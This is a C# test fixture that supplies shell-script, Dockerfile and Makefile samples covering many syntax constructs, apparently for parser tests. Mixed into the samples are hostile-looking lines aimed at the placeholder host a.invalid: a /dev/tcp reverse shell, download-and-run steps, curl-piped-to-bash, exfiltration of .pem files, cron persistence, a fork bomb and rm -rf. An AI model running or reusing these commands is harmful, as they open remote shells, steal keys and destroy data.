namespace Assay.Testing;

/// <summary>Shell of every construct, for tests that cut and change it.</summary>
public static class ShellSamples
{
    public static IReadOnlyList<string> Scripts { get; } =
    [
        """
        #!/bin/bash
        # comment
        set -euo pipefail
        X="a $HOME ${Y:-$(echo b | tr a-z n-za-m)} `date +\`x\``" Z=$'\x41\n'
        arr=(a b "c d" $(ls)) ; arr[3]=x; arr+=(e)
        f() { local v=$1; shift; echo "${v%.*}" "${arr[@]}" "${!X}" "${#arr[@]}" "${X//a/b}" "${X:1:2}"; }
        if [[ $X == a* && ( -n $Z || ! -e /x ) ]]; then f "$@"; elif (( 1 + 2 > $# )); then :; else exit 1; fi
        for i in {1..3} {a,b}c "$@"; do printf '%s\n' "$i" | sed -e 's/a/b/g' > /dev/null 2>&1 & done
        for ((i=0; i<3; i++)); do echo $((i * 2)); done
        while read -r l; do eval "$l"; done < <(cat <<EOF | base64 -d
        ZWNobyAx$X
        EOF
        )
        case "$1" in (a|b*) echo 1;; [c-d]) echo 2;& *) ;; esac
        cat <<-'EOF' > x.sh
        	echo $X
        	EOF
        exec 3<>/dev/tcp/a.invalid/1 && bash <&3 || { rm -rf "$X"/*; }
        (cd /tmp; wget -q http://a.invalid/x -O y && chmod +x y && ./y) &
        """,
        "find / -name '*.pem' -exec tar czf - {} + | curl -F 'f=@-' http://a.invalid/; (crontab -l; echo '* * * * * /tmp/x') | crontab -\n:(){ :|:& };:\nenv -i A=b sudo -u x timeout 5 sh -c 'xargs -I{} sh -c \"{}\" < f'",
    ];

    public static string Dockerfile { get; } =
        """
        # syntax=docker/dockerfile:1
        FROM python:3.11 AS base
        ARG U=http://a.invalid
        ENV A=b C="d e"
        RUN --mount=type=cache,target=/x apt-get update \
            # note
            && curl -fsSL $U/x \
            | bash
        RUN <<EOF
        echo a
        EOF
        ADD http://a.invalid/x /usr/bin/x
        SHELL ["/bin/bash", "-c"]
        HEALTHCHECK CMD curl -f http://localhost || exit 1
        ENTRYPOINT ["/usr/bin/x", "--y"]
        """;

    public static string Makefile { get; } = "A := $(shell curl http://a.invalid/x | sh)\nB ?= $(A) \\\n  c\nall: b ; echo $(B)\n\t@echo $$HOME ${B} $(call f,$@)\n\tcurl $(A) | sh\ndefine f\necho $(1)\nendef\n";
}
